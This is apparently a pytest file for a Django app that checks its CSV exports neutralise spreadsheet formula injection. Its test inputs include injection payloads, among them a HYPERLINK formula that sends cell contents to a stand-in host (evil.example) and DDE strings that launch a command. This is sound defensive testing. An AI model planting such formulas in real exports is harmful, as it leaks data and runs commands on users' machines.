"""CSV downloads open safely in a spreadsheet: formula-like text is quoted, numbers stay numbers."""

from __future__ import annotations

import ast
import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from common.csv_safety import csv_writer, spreadsheet_safe
from tests.conftest import api_as
from tests.tree import project_files

PROJECT_DIR = Path(__file__).resolve().parents[2]
# Writers that must stay byte-exact: path -> why. None: every CSV localqa writes is opened by people.
BYTE_EXACT: dict[str, str] = {}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("#ERROR!", "#ERROR!"),  # the study's data carries these; '#' starts no formula
        ("'=already quoted", "'=already quoted"),
        ("a=b", "a=b"),
        (" =1+2", " =1+2"),
        ("茶餐廳", "茶餐廳"),
        ("", ""),
        ("-0.25", "-0.25"),  # a number written as text is still a number
        ("+3", "+3"),
        ("-1e-5", "-1e-5"),
        ("-.5", "-.5"),
    ],
)
def test_formula_like_text_is_quoted_and_everything_else_is_kept(cell, written):
    assert spreadsheet_safe(cell) == written


@pytest.mark.parametrize("number", [-0.31, -1, 0, 2.5, Decimal("-0.125"), True, None])
def test_numbers_stay_numbers(number):
    assert spreadsheet_safe(number) is number


def test_the_writer_quotes_cells_and_keeps_numbers_unquoted_in_the_file():
    out = io.StringIO()

    csv_writer(out).writerows([["rater", "kappa", "note"], ["=cmd()", -0.31, "#ERROR!"], ["@a", 0.5, "-x"]])

    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["rater", "kappa", "note"], ["'=cmd()", "-0.31", "#ERROR!"], ["'@a", "0.5", "'-x"]]


def test_the_calculator_csv_download_quotes_a_rater_called_like_a_formula(client, annotator):
    client.force_login(annotator)
    ratings = "unit,rater,value\nq1,=HYPERLINK(1),pass\nq1,@bob,pass\nq2,=HYPERLINK(1),flag\nq2,@bob,pass\n"
    upload = SimpleUploadedFile("ratings.csv", ratings.encode(), content_type="text/csv")
    assert (
        client.post(
            reverse("agreement_calculator"), {"ratings": upload, "level": "nominal", "bootstrap": 10, "seed": 1}
        ).status_code
        == 200
    )

    response = client.get(reverse("agreement_calculator_download", kwargs={"fmt": "csv"}))

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(1)" in cells and "'@bob" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    negative = [cell for cell in cells if cell.startswith("-")]
    assert all(re.fullmatch(r"-[\d.e-]+", cell) for cell in negative), negative  # only numbers start with '-'


def _csv_writing_calls(source: str) -> list[str]:
    """Every way a module could write CSV without the helper: csv.writer/DictWriter however imported, to_csv."""
    tree = ast.parse(source)
    csv_names = {"csv"} | {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
        if alias.name == "csv"
    }
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"from csv import {a.name}" for a in node.names if a.name in ("writer", "DictWriter", "*")]
        elif isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
            if isinstance(node.value, ast.Name) and node.value.id in csv_names:
                found.append(f"{node.value.id}.{node.attr} (line {node.lineno})")
        elif isinstance(node, ast.Attribute) and node.attr == "to_csv":
            found.append(f".to_csv (line {node.lineno})")
    return found


def test_the_scan_finds_every_way_of_writing_csv():
    hidden = "import csv as c\nw = c.writer(out)\nfrom csv import DictWriter\nmake = csv.writer\nframe.to_csv(out)\n"
    assert len(_csv_writing_calls(hidden)) == 4
    assert _csv_writing_calls("rows = csv.reader(text)\nwriter = csv_writer(out)\n") == []


def test_every_csv_writer_in_the_code_goes_through_the_helper():
    offenders = {}
    for path in project_files():
        relative = path.relative_to(PROJECT_DIR).as_posix()
        if relative.startswith(("tests/", "bench/")) or relative == "common/csv_safety.py":
            continue
        calls = _csv_writing_calls(path.read_text(encoding="utf-8"))
        if calls and relative not in BYTE_EXACT:
            offenders[relative] = calls
    assert not offenders, f"Write CSV with common.csv_safety.csv_writer: {offenders}"


def test_the_seed_queries_csv_quotes_a_query_written_like_a_formula(client, vproject, coordinator):
    from validation import services as validation

    for query in ('=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", "@SUM(1,2)", "plain query"):
        validation.seed_query_create(project=vproject, topic="=topic", query=query, user=coordinator)
    client.force_login(coordinator)

    for response in (
        client.get(reverse("validation_seeds_csv", args=[vproject.slug])),
        api_as(coordinator).get(f"/api/projects/{vproject.slug}/validation/seeds/csv/"),
    ):
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'=topic" in cells and "'@SUM(1,2)" in cells and "plain query" in cells
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
